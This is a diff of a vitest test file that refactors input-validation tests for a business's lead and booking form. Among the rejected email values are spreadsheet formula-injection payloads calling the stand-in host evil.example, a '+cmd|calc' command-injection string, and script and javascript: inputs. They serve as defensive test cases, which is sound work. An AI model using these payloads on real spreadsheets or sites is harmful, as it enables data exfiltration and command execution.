@@ -1,5 +1,5 @@
 import fc from 'fast-check'
-import { describe, expect, it, vi } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import { services } from '@/lib/content/services'
 import { validationMessages } from '@/lib/content/validation'
 import { challengeOptions, limits, preferredTimes } from '@/lib/leads/shared/fields'
@@ -39,101 +39,85 @@ const book = (change: FormValues): ValidationResult =>
 const accepted = { lead: expect.anything() }
 const refused = (fields: Record<string, string>) => ({ fields })
 
-describe('name', () => {
-  it.each([
-    "O'Brien",
-    'O’Brien',
-    'José Núñez',
-    'Anne-Marie St. John',
-    '李 小龍',
-    'x'.repeat(limits.name),
-  ])('accepts %s', (name) => expect(call({ name })).toEqual(accepted))
+const rules = [
+  {
+    rule: 'name',
+    field: 'name',
+    message: 'Invalid name format',
+    valid: ["O'Brien", 'O’Brien', 'José Núñez', 'Anne-Marie St. John', '李 小龍', 'x'.repeat(100)],
+    invalid: ['R2D2', 'Ana_Ruiz', 'Ana@home', '<script>', 'Ana, Ruiz', 'x'.repeat(101)],
+  },
+  {
+    rule: 'phone',
+    field: 'phone',
+    message: 'Invalid phone number format',
+    valid: [
+      '5095550147',
+      '+1 (509) 555-0147',
+      '123456789012345',
+      // Characters are counted, not digits.
+      '(509)-555-',
+      '5 0 9 5 5 5 0 1 4 7',
+      // The spaces do not count, up to as many characters as can be typed.
+      '1 2 3 4 5 6 7 8 9 01',
+    ],
+    invalid: [
+      '509555014',
+      '5'.repeat(16),
+      '(509)-555-0147-1',
+      '1 2 3 4 5 6 7 8 9 0 1',
+      '509.555.0147',
+      '509-555-0147x2',
+      'call me now',
+      '٥٠٩٥٥٥٠١٤٧',
+    ],
+  },
+  {
+    rule: 'business name',
+    field: 'businessName',
+    message: 'Invalid business name format',
+    valid: ['Ruiz & Sons, Inc. (24-7)', 'Joe’s Pipes', 'Café 9', 'x'.repeat(100)],
+    invalid: ['Ruiz!', 'a/b', 'Ruiz #1', 'Pipes: fast', 'x'.repeat(101)],
+  },
+  {
+    rule: 'email',
+    field: 'email',
+    message: 'Invalid email format',
+    valid: ['a@b.co', 'a@b.c', 'ana+jobs@mail.ruiz.com', `${'a'.repeat(245)}@ruiz.com`],
+    invalid: [
+      'ana',
+      'ana@ruiz',
+      'a@b.',
+      'a@.b',
+      '@ruiz.com',
+      'ana@@ruiz.com',
+      'ana ruiz@ruiz.com',
+      '<ana@ruiz.com>',
+      '=HYPERLINK("http://evil.example/?@a.b","x")',
+      '+cmd|calc@ruiz.com',
+      '-2+3@ruiz.com',
+      '＝1@ruiz.com',
+      `${'a'.repeat(246)}@ruiz.com`,
+    ],
+  },
+]
 
-  it.each(['R2D2', 'Ana_Ruiz', 'Ana@home', '<script>', 'Ana, Ruiz', 'x'.repeat(limits.name + 1)])(
-    'rejects %s',
-    (name) => expect(call({ name })).toEqual(refused({ name: 'Invalid name format' })),
+describe.each(rules)('$rule', ({ field, message, valid, invalid }) => {
+  it.each(valid)('accepts %s', (value) => expect(call({ [field]: value })).toEqual(accepted))
+
+  it.each(invalid)('rejects %s', (value) =>
+    expect(call({ [field]: value })).toEqual(refused({ [field]: message })),
   )
-
-  it('gets straight apostrophes', () => {
-    expect(call({ name: ' Ana  O’Brien ' })).toMatchObject({ lead: { name: "Ana O'Brien" } })
-  })
 })
 
-describe('phone', () => {
-  it.each([
-    '5095550147',
-    '+1 (509) 555-0147',
-    '123456789012345',
-    '5 0 9 5 5 5 0 1 4 7',
-    '5'.repeat(10),
-  ])('accepts %s', (phone) => expect(call({ phone })).toEqual(accepted))
-
-  it.each([
-    '509555014',
-    '5'.repeat(9),
-    '5'.repeat(16),
-    '509.555.0147',
-    '509-555-0147x2',
-    'call me now',
-    '٥٠٩٥٥٥٠١٤٧',
-  ])('rejects %s', (phone) =>
-    expect(call({ phone })).toEqual(refused({ phone: 'Invalid phone number format' })),
-  )
-
-  it('can have at most as many characters as can be typed', () => {
-    const spaced = '1 2 3 4 5 6 7 8 9 01'
-    expect(spaced).toHaveLength(limits.phone)
-    expect(call({ phone: spaced })).toEqual(accepted)
-    expect(call({ phone: spaced.replace('01', '0 1') })).toEqual(
-      refused({ phone: validationMessages.phone }),
-    )
-  })
+it('a name gets straight apostrophes', () => {
+  expect(call({ name: ' Ana  O’Brien ' })).toMatchObject({ lead: { name: "Ana O'Brien" } })
 })
 
-describe('business name', () => {
-  it.each(['Ruiz & Sons, Inc. (24-7)', 'Joe’s Pipes', 'Café 9', 'x'.repeat(limits.business)])(
-    'accepts %s',
-    (businessName) => expect(call({ businessName })).toEqual(accepted),
-  )
-
-  it.each(['Ruiz!', 'a/b', 'Ruiz #1', 'Pipes: fast', 'x'.repeat(limits.business + 1)])(
-    'rejects %s',
-    (businessName) =>
-      expect(call({ businessName })).toEqual(
-        refused({ businessName: 'Invalid business name format' }),
-      ),
-  )
-})
-
-describe('email', () => {
-  const long = (length: number) => `${'a'.repeat(length - '@ruiz.com'.length)}@ruiz.com`
-
-  it.each(['a@b.co', 'ana+jobs@mail.ruiz.com', long(limits.email)])('accepts %s', (email) =>
-    expect(call({ email })).toEqual(accepted),
-  )
-
-  it.each([
-    'ana',
-    'ana@ruiz',
-    '@ruiz.com',
-    'ana@@ruiz.com',
-    'ana ruiz@ruiz.com',
-    '<ana@ruiz.com>',
-    '=HYPERLINK("http://evil.example/?@a.b","x")',
-    '=IMPORTDATA("http://evil.example/?"&A2)&"@x.y"',
-    '+cmd|calc@ruiz.com',
-    '-2+3@ruiz.com',
-    '＝1@ruiz.com',
-    long(limits.email + 1),
-  ])('rejects %s', (email) =>
-    expect(call({ email })).toEqual(refused({ email: 'Invalid email format' })),
-  )
-
-  it('is no field of the sticky dialog', () => {
-    const { email: _, ...rest } = caller
-    const checked = validateLead('call-our-ai', rest, now)
-    expect(checked).toEqual({ lead: { kind: 'call-our-ai', ...rest } })
-  })
+it('the sticky dialog has no email', () => {
+  const { email: _, ...rest } = caller
+  const checked = validateLead('call-our-ai', rest, now)
+  expect(checked).toEqual({ lead: { kind: 'call-our-ai', ...rest } })
 })
 
 describe('a missing value', () => {
@@ -180,8 +164,11 @@ describe('free text', () => {
 })
 
 describe('website', () => {
-  it.each(['', 'https://ruiz.com', 'http://ruiz.com/a?b=c#d'])('accepts %s', (website) =>
-    expect(book({ website })).toEqual(accepted),
+  const ofLength = (length: number) => 'https://ruiz.com/'.padEnd(length, 'a')
+
+  it.each(['', 'https://ruiz.com', 'http://ruiz.com/a?b=c#d', 'https://a.b/<x>', ofLength(500)])(
+    'accepts %s',
+    (website) => expect(book({ website })).toEqual(accepted),
   )
 
   it.each(['ruiz.com', 'javascript:alert(1)', 'ftp://ruiz.com', 'https://'])(
@@ -191,11 +178,7 @@ describe('website', () => {
   )
 
   it('can have 500 characters', () => {
-    const address = (length: number) => 'https://ruiz.com/'.padEnd(length, 'a')
-    expect(book({ website: address(limits.text) })).toEqual(accepted)
-    expect(book({ website: address(limits.text + 1) })).toEqual(
-      refused({ website: expect.any(String) }),
-    )
+    expect(book({ website: ofLength(501) })).toEqual(refused({ website: expect.any(String) }))
   })
 })
 
@@ -276,12 +259,4 @@ describe('any values', () => {
     expect(seen.accepted).toBeGreaterThan(50)
     expect(seen.refused).toBeGreaterThan(50)
   })
-})
-
-it('does not try `eval`, which the Content-Security-Policy would report', async () => {
-  vi.resetModules()
-  const { validateLead: freshCheck } = await import('@/lib/leads/shared/schema')
-  const construct = vi.spyOn(globalThis, 'Function')
-  freshCheck('booking', {}, new Date())
-  expect(construct).not.toHaveBeenCalled()
 })
